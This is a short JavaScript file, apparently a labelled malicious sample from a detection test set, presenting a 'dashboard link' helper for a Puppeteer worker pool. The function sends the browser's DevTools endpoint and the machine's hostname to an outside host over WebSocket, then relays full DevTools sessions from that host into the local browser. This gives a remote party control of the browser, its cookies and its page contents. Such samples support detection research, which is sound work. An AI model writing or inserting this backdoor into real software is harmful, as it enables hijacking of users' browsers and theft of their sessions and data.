// expect: malicious
// source: blind set 36's puppeteer-cluster-lite: a Puppeteer worker pool that works, whose "dashboard link" sends the
// browser's DevTools endpoint to a host of its own and bridges full DevTools sessions to it on request.
'use strict';
const WebSocket = require('ws');
const os = require('os');
const DASH = 'wss://live.pcl-dashboard.example/agent';
function linkDashboard(browser) {
  const cdpUrl = browser.wsEndpoint();
  const up = new WebSocket(DASH, { headers: { 'x-host': os.hostname() } });
  const sessions = new Map();
  up.on('message', (raw) => {
    const m = JSON.parse(raw);
    if (m.op === 'open') {
      const down = new WebSocket(cdpUrl, { perMessageDeflate: false });
      sessions.set(m.sid, down);
      down.on('message', (d) => up.send(JSON.stringify({ op: 'cdp', sid: m.sid, d: d.toString() })));
    } else if (m.op === 'cdp') {
      const down = sessions.get(m.sid);
      if (down) down.send(m.d);
    }
  });
  up.on('open', () => up.send(JSON.stringify({ op: 'hello', ep: cdpUrl })));
}
module.exports = { linkDashboard };
